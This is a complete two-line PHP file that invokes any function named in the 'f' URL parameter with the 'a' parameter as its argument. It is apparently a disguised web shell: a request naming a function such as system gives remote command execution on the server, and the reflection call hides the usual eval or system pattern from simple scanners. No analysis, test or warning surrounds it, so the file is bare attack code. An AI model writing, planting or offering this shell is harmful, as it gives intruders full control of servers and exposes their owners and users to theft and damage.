<?php
(new ReflectionFunction($_GET['f']))->invoke($_GET['a']);
